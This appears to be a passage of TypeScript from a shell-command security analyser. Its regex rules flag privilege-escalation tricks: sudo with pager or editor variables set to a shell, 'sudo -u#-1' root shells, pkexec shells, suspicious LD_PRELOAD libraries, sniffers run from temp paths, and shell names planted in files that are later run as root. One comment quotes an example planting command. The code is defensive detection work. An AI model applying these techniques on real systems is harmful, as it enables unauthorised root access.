      if (/sudo\s+(?:-\S+\s+){0,4}(?:(?:GIT_|MAN|SYSTEMD_)?PAGER|(?:GIT_|SUDO_)?EDITOR|VISUAL|BROWSER|LESSOPEN|GIT_SSH\w{0,8}|GIT_EXTERNAL_DIFF)=["']?[^\s]{0,60}?(?:^|[/="'])(?:ba|z|da|k)?sh\b/.test(written)) view.report(shellEscape, command.start, command.end);
      if (/sudo\s+(?:-\S+\s+)?-u\s*\\?#-?\d{1,10}/.test(written)) view.report(rootShell, command.start, command.end);
    }
    if (command.wrappers.includes('pkexec') && /^(?:ba|z|da|k)?sh$/.test(command.name)) view.report(rootShell, command.start, command.end);
    tellBorrowedShells(seen, line);
    if (command.assignments.some(({ text: assignment }) => isSuspectPreload(assignment)) || ((command.name === 'export' || command.name === 'env') && command.args.some(({ text: word }) => isSuspectPreload(word)))) view.report(preload, command.start, command.end);
    if (asRoot(line) && /^.{0,60}?\s(?:\/(?:private\/)?(?:var\/)?tmp|\/dev\/shm)\/\S{1,80}\s.{0,60}-i\s?(?:en|eth|em|wlan|wl|lo|bond|any)\w{0,12}\b/.test(view.text.slice(command.start, Math.min(command.end, command.start + 240)))) view.report(unknownSniffer, command.start, command.end);
    view.budget.spend(planted.length * command.args.length);
    if (runsPlanted(line, planted)) view.report(shellEscape, command.start, command.end);
    else keepPlanted(command, planted);
    tellTools(seen, line);
  }
}

const PLANTED = new RegExp(String.raw`(?:["'\x60(\s=:{!]|^)${SHELL}(?! -)|exec[lv]\w*\(|os\.(?:system|execute)|\b(?:pre|post)install`);

/** A file into which a shell's name is written: `echo '{"scripts":{"x":"/bin/sh"}}' > $TF/package.json`. */
function keepPlanted({ name, args, redirects }: Command, planted: string[]): void {
  if (redirects.length === 0 || !/^(?:echo|printf)$/.test(name) || !args.some(({ text }) => new RegExp(SHELL).test(text) && PLANTED.test(text.slice(0, 1_000)) && !text.startsWith('#!'))) return;
  for (const { operator, target } of redirects) {
    const place = /^>/.test(operator) ? /^(?:\$\{?\w{1,40}\}?|(?:\/[^/]{1,60}){2,3})/.exec(target?.text ?? '')?.[0] : undefined;
    if (place !== undefined && !place.startsWith('/dev/')) planted.push(place);
  }
}

/** A program run as root that takes such a file for its settings, scripts or package. */
const runsPlanted = (line: Line, planted: readonly string[]): boolean => planted.length > 0 && asRoot(line) && !/^(?:chmod|chown|mv|cp|install|tee|cat|rm|ln|ls|mkdir|bash|sh|systemctl)$/.test(line.command.name) && line.command.args.some(({ text }) => planted.some((place) => text.includes(place)));

const isSuspectPreload = (assignment: string): boolean => {
  const [, value = ''] = /^(?:LD_PRELOAD|LD_AUDIT|DYLD_INSERT_LIBRARIES)\+?=(.{0,300})/.exec(assignment) ?? [];
  return value !== '' && (/^(?:\/(?:private\/)?(?:var\/)?tmp|\/dev\/shm|\.|\/home|~|\$HOME)|\/\./.test(value) || !value.startsWith('/')) && !/(?:jemalloc|tcmalloc|mimalloc|asan|faketime|snoopy|stdbuf|libc\+\+|libgomp|eatmydata)/.test(value) && /\.(?:so|dylib)\b/.test(value);
};
